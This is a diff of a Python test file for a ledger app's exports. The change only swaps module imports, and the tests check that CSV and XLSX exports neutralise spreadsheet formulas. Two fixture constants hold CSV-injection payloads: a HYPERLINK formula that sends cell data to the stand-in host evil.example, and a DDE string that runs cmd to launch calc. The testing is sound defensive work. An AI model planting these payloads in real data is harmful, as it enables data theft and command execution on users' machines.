@@ -15,11 +15,16 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from greentrack import services
-from greentrack.ledger.export import render
 from greentrack.ledger.schema import DepartmentRow, TargetRow
+from greentrack.pipeline.steps import extract_plan
+from greentrack.reports.export import render
 from greentrack.reports.records import write_records
 from greentrack.reports.safe import csv_cell
+from greentrack.services.demo import build_demo
+from greentrack.services.documents import sample_paths
+from greentrack.services.ledger import open_ledger
+from greentrack.services.reports import export_bytes
+from greentrack.services.status import ledger_status
 
 EVIL_INDICATOR = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 EVIL_DEPARTMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -29,8 +34,8 @@ TARGET = 13
 @pytest.fixture(scope="module")
 def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The demo ledger with a target's indicator and a department's name written as formulas."""
-    path = services.build_demo(tmp_path_factory.mktemp("formula") / "demo.db").path
-    ledger = services.open_ledger(db=path)
+    path = build_demo(tmp_path_factory.mktemp("formula") / "demo.db").path
+    ledger = open_ledger(db=path)
     try:
         with ledger.session("test") as session:
             session.get(TargetRow, TARGET).indicator = EVIL_INDICATOR
@@ -47,10 +52,10 @@ def test_the_neutraliser_marks_only_text_a_spreadsheet_would_run() -> None:
 
 
 def test_the_ledger_csv_export_writes_formulas_as_text(poisoned: Path) -> None:
-    ledger = services.open_ledger(db=poisoned)
+    ledger = open_ledger(db=poisoned)
     try:
-        data = services.export_bytes(ledger, "csv")
-        report = services.ledger_status(ledger)
+        data = export_bytes(ledger, "csv")
+        report = ledger_status(ledger)
     finally:
         ledger.close()
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
@@ -63,10 +68,10 @@ def test_the_ledger_csv_export_writes_formulas_as_text(poisoned: Path) -> None:
 
 
 def test_the_xlsx_exports_hold_no_formula(poisoned: Path, tmp_path: Path) -> None:
-    ledger = services.open_ledger(db=poisoned)
+    ledger = open_ledger(db=poisoned)
     try:
-        workbooks = {"台账 (reports/xlsx)": services.export_bytes(ledger, "xlsx"),
-                     "ledger/export xlsx": render(services.ledger_status(ledger), "xlsx")}
+        workbooks = {"台账 (reports/xlsx)": export_bytes(ledger, "xlsx"),
+                     "ledger/export xlsx": render(ledger_status(ledger), "xlsx")}
     finally:
         ledger.close()
     for name, data in workbooks.items():
@@ -78,9 +83,9 @@ def test_the_xlsx_exports_hold_no_formula(poisoned: Path, tmp_path: Path) -> Non
 
 
 def test_json_keeps_the_text_as_written(poisoned: Path) -> None:
-    ledger = services.open_ledger(db=poisoned)
+    ledger = open_ledger(db=poisoned)
     try:
-        data = json.loads(services.export_bytes(ledger, "json"))
+        data = json.loads(export_bytes(ledger, "json"))
     finally:
         ledger.close()
     target = next(t for t in data["targets"] if t["id"] == TARGET)
@@ -89,8 +94,8 @@ def test_json_keeps_the_text_as_written(poisoned: Path) -> None:
 
 def test_extracted_records_as_csv_and_xlsx_hold_no_formula(tmp_path: Path) -> None:
     plan = tmp_path / "plan.txt"
-    shutil.copy(services.sample_paths()[0], plan)
-    first, *rest = services.extract_plan(plan).targets
+    shutil.copy(sample_paths()[0], plan)
+    first, *rest = extract_plan(plan).targets
     poisoned = [dataclasses.replace(first, indicator=EVIL_INDICATOR), *rest]
     stream = io.StringIO()
     write_records(poisoned, "csv", None, stream)
